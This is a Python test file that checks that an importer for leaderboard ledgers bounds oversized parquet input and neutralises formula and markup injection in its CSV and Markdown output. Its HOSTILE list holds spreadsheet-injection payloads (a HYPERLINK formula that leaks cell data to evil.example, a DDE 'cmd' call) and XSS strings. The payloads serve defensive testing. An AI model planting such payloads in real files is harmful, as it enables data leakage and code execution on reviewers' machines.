"""Leaderboard text is hostile data: bounded when imported, inert in every file a reviewer opens.

A parquet ledger can hold millions of rows in kilobytes; a cell can be a spreadsheet formula or
HTML. The importer bounds rows and bytes; ledger.csv and the bundle's source-ledger.csv neutralise
formulas as OWASP recommends (and read back exactly); review.md shows markup as text.
"""

from __future__ import annotations

import csv
import io
import re
import time

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from tests.support.hf_fixtures import board_row
from tests.support.reliability_fixtures import draft_args, hf_setup, write_ledger

from checks.io import FORMULA_START, csv_text, spreadsheet_safe, spreadsheet_value
from checks.testing import run_cli
from hfmigrate_checks.source import ledger

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\tTAB",
    "'=quoted",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "<javascript:alert(1)>",
    "a | b `code`",
]


@pytest.mark.parametrize("kind", ["rows", "bytes"])
def test_parquet_ledgers_are_bounded(tmp_path, kind):
    """Fault: a 30 KB parquet ledger holding 4,000,000 repeated rows (1.8 GB RSS after 40 s), or a few rows whose cells
    print to more than 64 MiB

    Must: `checks hf ledger --format parquet` refuses it with the limit in the message (200,000 rows; 64 MiB of text,
    like CSV and Markdown), exit 2, no traceback; measured: the 4M-row file refused in 2.0 s at a peak RSS of 133 MiB
    """

    path = tmp_path / "board.parquet"
    if kind == "rows":
        n = 4_000_000
        table = pa.table({"model": pa.array(["org/m"] * n), "Main": pa.array([41.2] * n)})
    else:
        table = pa.table({"model": ["org/m"] * 40, "Main": ["x" * 2_000_000] * 40})
    pq.write_table(table, path, compression="zstd")
    start = time.monotonic()
    res = run_cli(
        ["hf", "ledger", str(path), "--format", "parquet", "--out", str(tmp_path / "ledger.csv")], cwd=tmp_path
    )
    assert time.monotonic() - start < 60
    assert res.exit_code == 2 and "Traceback" not in res.stderr, res.stderr
    limit = "more than 200,000 rows" if kind == "rows" else "more than 67,108,864 bytes"
    assert limit in res.stderr and "board.parquet" in res.stderr, res.stderr
    assert not (tmp_path / "ledger.csv").exists()


def test_a_parquet_ledger_within_its_bounds_imports(tmp_path):

    path = tmp_path / "board.parquet"
    pq.write_table(pa.table({"model": ["org/m", "org/n"], "Main": [41.2, 40.0]}), path)
    assert [r.source_value for r in ledger.import_source(path, "parquet")] == ["41.2", "40.0"]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_formulas_and_markup_are_inert_in_the_bundle(tmp_path):
    """Fault: leaderboard cells `=HYPERLINK(...)`, `@SUM(...)`, `+1+1`, a leading tab, and labels holding `<script>`,
    `<img onerror>`, `[x](javascript:...)` and `<javascript:...>`: the formulas reached ledger.csv and the bundle's
    source-ledger.csv unchanged, the markup reached review.md raw

    Must: every CSV cell starting like a formula (=, +, -, @, tab, CR) gets a leading quote, as OWASP recommends
    (plain numbers such as -0.5 are left), and ledger.csv reads back exactly; review.md shows '<', '>' and '&' as
    entities and escapes '[', ']', '`', '|' and '\\', so no tag, link or autolink is made
    """

    with hf_setup(tmp_path, models=2) as (env, _hub):
        write_ledger(tmp_path / "ledger.csv", models=2, base=50.0)
        rows = ledger.load(tmp_path / "ledger.csv")
        rows += [board_row(text, "Main", text, 1, qualifiers=text) for text in HOSTILE]
        rows.append(
            ledger.LedgerRow(
                source_model="org/negative", source_task="Main", source_value="-0.5", source_locator="README.md:L2"
            )
        )
        ledger.write(tmp_path / "ledger.csv", rows)
        back = ledger.load(tmp_path / "ledger.csv")  # neutralised on disk, exact when read back
        assert [(r.source_model, r.source_value, r.qualifiers) for r in back] == [
            (r.source_model, r.source_value, r.qualifiers) for r in rows
        ]
        res = run_cli(draft_args(tmp_path), env=env, cwd=tmp_path)
        assert res.exit_code in (0, 1), res.stdout + res.stderr
    for name in ("ledger.csv", "bundle/source-ledger.csv"):
        cells = _cells((tmp_path / name).read_text())
        risky = [c for c in cells if c.startswith(FORMULA_START) and not c.startswith("'") and c != "-0.5"]
        assert risky == [], (name, risky)
        assert "-0.5" in cells and '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in cells, name
    review = (tmp_path / "bundle" / "review.md").read_text()
    for markup in ("<script", "<img", "<javascript:"):
        assert markup not in review, markup
    assert not re.search(r"(?<!\\)\]\(javascript:", review)  # only the escaped bracket, which makes no link
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in review and "\\[click\\](javascript:alert(1))" in review


def test_numbers_and_plain_text_are_left_alone():

    for text in ("41.2", "-0.5", "+3", "1e-3", "Alpha 7B", "org/model", ""):
        assert spreadsheet_safe(text) == text
    for text in HOSTILE:
        assert spreadsheet_value(spreadsheet_safe(text)) == text
    assert csv_text(["a"], [["=1+1"]]) == "a\n=1+1\n"  # only where asked: a file a reviewer opens
